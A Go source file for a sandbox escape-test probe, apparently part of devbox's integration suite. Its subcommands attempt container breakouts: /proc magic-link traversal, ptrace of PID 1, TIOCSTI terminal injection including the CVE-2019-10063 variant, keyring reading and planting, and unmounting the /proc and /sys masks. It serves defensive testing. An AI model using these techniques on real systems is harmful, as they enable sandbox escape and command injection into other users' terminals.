// Command probe is the attacker in devbox's escape suite
// (test/integration/escape_test.go): a static program the tests put into an
// image and run inside a box, where it tries one way out and prints what
// happened as "KEY: value" lines. It never decides whether a result is
// good; the test does.
//
//	probe fds NAME      walk ".." from every descriptor, cwd and root of every visible process, looking for a file NAME
//	probe ptrace        PTRACE_ATTACH and PTRACE_SEIZE to PID 1, open /proc/1/mem and /proc/1/environ
//	probe tiocsti TEXT  push TEXT into the input of the terminals on fds 0-2 and /dev/tty (also with high bits set in the request)
//	probe keys DESC     search the session, user and user-session keyrings for a "user" key DESC and read it
//	probe plant-key DESC  add a "user" key DESC to the user and user-session keyrings (for a later box to find)
//	probe masks         unmount and remount the masks over /proc and /sys, mount a new proc, sysfs and tmpfs
//	probe status        the confinement lines of /proc/self/status
//	probe hostchan      find a devbox-host socket and run hostname on the host through it (hostchan.go)
//	probe tap           attach to the box's tap0, which the network helper reads (tap.go)
//	probe stdio         reopen fds 0-2 through /proc/self/fd: write, read back, fchmod (stdio.go)
//	probe initexe       replace the init's program through /proc/1/exe (initexe.go)
//	probe dump [NS=LINK…]  print what the process inherited and can observe of its confinement, normalised (dump.go)
package main

import (
	"bufio"
	"fmt"
	"os"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: probe fds|ptrace|tiocsti|keys|plant-key|masks|status|dump [ARG]")
		os.Exit(2)
	}
	arg := ""
	if len(os.Args) > 2 {
		arg = os.Args[2]
	}
	switch os.Args[1] {
	case "fds":
		fds(arg)
	case "ptrace":
		ptrace()
	case "tiocsti":
		tiocsti(arg)
	case "keys":
		keys(arg)
	case "plant-key":
		plantKey(arg)
	case "masks":
		masks()
	case "status":
		status()
	case "dump":
		dump(os.Args[2:])
	default:
		fmt.Fprintln(os.Stderr, "probe: unknown attack", os.Args[1])
		os.Exit(2)
	}
}

func result(key string, err error) {
	if err == nil {
		fmt.Printf("%s: ok\n", key)
		return
	}
	fmt.Printf("%s: %v\n", key, err)
}

// fds walks up from every magic link of every process it can see. A
// directory listing that holds name is a way out: the probe appends a line
// to that file to prove it and says "ESCAPED".
func fds(name string) {
	var starts []string
	procs, _ := os.ReadDir("/proc")
	for _, p := range procs {
		if _, err := strconv.Atoi(p.Name()); err != nil {
			continue
		}
		base := "/proc/" + p.Name()
		starts = append(starts, base+"/cwd", base+"/root")
		ents, err := os.ReadDir(base + "/fd")
		if err != nil {
			fmt.Printf("fd-dir %s: %v\n", base, err)
			continue
		}
		for _, e := range ents {
			starts = append(starts, base+"/fd/"+e.Name())
		}
	}
	seen := 0
	for _, s := range starts {
		link, _ := os.Readlink(s)
		dir := s
		for depth := 0; depth < 24; depth++ {
			ents, err := os.ReadDir(dir)
			if err != nil {
				break
			}
			seen++
			for _, e := range ents {
				if e.Name() == name {
					// Not filepath.Join: it would clean the ".." away.
					f, err := os.OpenFile(dir+"/"+name, os.O_WRONLY|os.O_APPEND, 0)
					if err == nil {
						fmt.Fprintln(f, "# written from a box by probe fds")
						f.Close()
					}
					fmt.Printf("ESCAPED: %s (%s) %d levels up: %s (write: %v)\n", s, link, depth, dir, err)
				}
			}
			dir += "/.."
		}
	}
	fmt.Printf("walked: %d starts, %d directories\n", len(starts), seen)
}

func ptrace() {
	result("attach", unix.PtraceAttach(1))
	_, _, e := unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, 1, 0, 0, 0, 0)
	result("seize", errnoErr(e))
	for _, f := range []string{"/proc/1/mem", "/proc/1/environ"} {
		fd, err := unix.Open(f, unix.O_RDONLY, 0)
		if err == nil {
			unix.Close(fd)
		}
		result("open "+f, err)
	}
	l, err := os.Readlink("/proc/1/exe")
	fmt.Printf("readlink /proc/1/exe: %q %v\n", l, err)
}

func errnoErr(e unix.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

// tiocsti tries to type text into every terminal it holds.
func tiocsti(text string) {
	try := func(key string, fd int) {
		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
			fmt.Printf("%s: not a terminal\n", key)
			return
		}
		var err error
		for i := 0; i < len(text) && err == nil; i++ {
			_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&[]byte(text)[i])))
			err = errnoErr(e)
		}
		result(key, err)
		// CVE-2019-10063: the same request with high bits set.
		c := byte(' ')
		_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(0x123<<32|unix.TIOCSTI), uintptr(unsafe.Pointer(&c)))
		result(key+" high-bits", errnoErr(e))
	}
	for fd := 0; fd < 3; fd++ {
		try("fd"+strconv.Itoa(fd), fd)
	}
	fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		result("/dev/tty", err)
		return
	}
	try("/dev/tty", fd)
}

// keys looks for a "user" key desc where the caller's keyrings would be.
func keys(desc string) {
	for _, r := range []struct {
		name string
		id   int
	}{{"session", unix.KEY_SPEC_SESSION_KEYRING}, {"user", unix.KEY_SPEC_USER_KEYRING}, {"user-session", unix.KEY_SPEC_USER_SESSION_KEYRING}} {
		id, err := unix.KeyctlSearch(r.id, "user", desc, 0)
		if err != nil {
			fmt.Printf("search %s: %v\n", r.name, err)
			continue
		}
		buf := make([]byte, 256)
		n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
		if err != nil {
			fmt.Printf("FOUND %s: key %d, read: %v\n", r.name, id, err)
			continue
		}
		fmt.Printf("FOUND %s: key %d: %q\n", r.name, id, buf[:min(n, len(buf))])
	}
}

// plantKey leaves a "user" key desc in the user and user-session
// keyrings, which outlive the process: a later box that finds it shares
// them with this one.
func plantKey(desc string) {
	for _, r := range []struct {
		name string
		id   int
	}{{"user", unix.KEY_SPEC_USER_KEYRING}, {"user-session", unix.KEY_SPEC_USER_SESSION_KEYRING}} {
		// Made in the session keyring (possessed: its permissions can be
		// set), readable by anyone of the uid, then linked into r.
		id, err := unix.AddKey("user", desc, []byte("planted in "+r.name), unix.KEY_SPEC_SESSION_KEYRING)
		if err == nil {
			err = unix.KeyctlSetperm(id, 0x3f3f3f3f)
		}
		if err == nil {
			_, err = unix.KeyctlInt(unix.KEYCTL_LINK, id, r.id, 0, 0)
		}
		result("plant "+r.name, err)
	}
}

// masks tries to take away what covers /proc and /sys.
func masks() {
	for _, p := range []string{"/proc/kcore", "/proc/keys", "/proc/timer_list", "/sys/firmware", "/proc/sys", "/proc/sysrq-trigger"} {
		if _, err := os.Stat(p); err != nil {
			continue
		}
		result("umount "+p, unix.Unmount(p, unix.MNT_DETACH))
		result("remount-rw "+p, unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	}
	_ = os.MkdirAll("/tmp/probe-mnt", 0o755)
	result("mount proc", unix.Mount("proc", "/tmp/probe-mnt", "proc", 0, ""))
	result("mount sysfs", unix.Mount("sysfs", "/tmp/probe-mnt", "sysfs", 0, ""))
	result("mount tmpfs", unix.Mount("tmpfs", "/tmp/probe-mnt", "tmpfs", 0, ""))
	result("unshare user+mount", unix.Unshare(unix.CLONE_NEWUSER|unix.CLONE_NEWNS))
	f, err := os.OpenFile("/proc/sysrq-trigger", os.O_WRONLY, 0)
	if err == nil {
		f.Close()
	}
	result("open /proc/sysrq-trigger for writing", err)
	b, err := os.ReadFile("/proc/kcore")
	fmt.Printf("read /proc/kcore: %d bytes %v\n", len(b), err)
}

func status() {
	f, err := os.Open("/proc/self/status")
	if err != nil {
		fmt.Println("status:", err)
		return
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		l := sc.Text()
		for _, k := range []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp:"} {
			if strings.HasPrefix(l, k) {
				key, v, _ := strings.Cut(l, ":")
				fmt.Printf("%s: %s\n", key, strings.TrimSpace(v))
			}
		}
	}
}
